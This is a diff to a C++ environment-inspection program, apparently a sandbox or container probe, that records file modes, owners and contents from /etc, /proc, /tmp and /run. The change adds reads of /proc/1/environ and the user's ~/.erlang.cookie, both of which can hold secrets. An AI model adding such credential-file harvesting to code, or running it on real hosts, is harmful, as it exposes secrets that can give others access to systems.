@@ -19,6 +19,7 @@
 #include <bit>
 #include <cstddef>
 #include <cstdio>
+#include <cstdlib>
 #include <cstring>
 #include <string>
 #include <vector>
@@ -83,7 +84,12 @@ void add_file(const std::string& path) {
   struct stat info = {};
   if (stat(path.c_str(), &info) != 0) return;
   add("mode:" + path, octal(info.st_mode & 07777));
-  if (S_ISREG(info.st_mode)) add("file:" + path, read_all(path));
+  add("owner:" + path, std::to_string(info.st_uid) + ":" + std::to_string(info.st_gid));
+  if (!S_ISREG(info.st_mode)) return;
+  // Words of /proc end with a NUL, each.
+  std::string text = read_all(path);
+  std::replace(text.begin(), text.end(), '\0', '\n');
+  add("file:" + path, text);
 }
 
 unsigned prefix_of(const sockaddr* netmask) {
@@ -199,11 +205,13 @@ int main(int argc, char** argv) {
   (void)uname(&names);
   add("hostname", names.nodename);
 
-  for (const char* path :
-       {"/etc/hosts", "/etc/resolv.conf", "/proc/net/route", "/proc/cmdline", "/proc", "/sys",
-        "/dev", "/dev/pts", "/dev/shm", "/dev/mqueue", "/run", "/tmp"}) {
+  for (const char* path : {"/etc/hosts", "/etc/resolv.conf", "/proc/net/route", "/proc/cmdline",
+                           "/proc", "/sys", "/dev", "/dev/pts", "/dev/shm", "/dev/mqueue", "/run",
+                           "/tmp", "/proc/1/cmdline", "/proc/1/environ", "/proc/self/limits"}) {
     add_file(path);
   }
+  const char* const home = getenv("HOME");
+  if (home != nullptr) add_file(std::string(home) + "/.erlang.cookie");
   for (const char* directory_path : {"/tmp", "/run"}) {
     for (const std::string& name : names_in(directory_path)) {
       add_file(std::string(directory_path) + "/" + name);
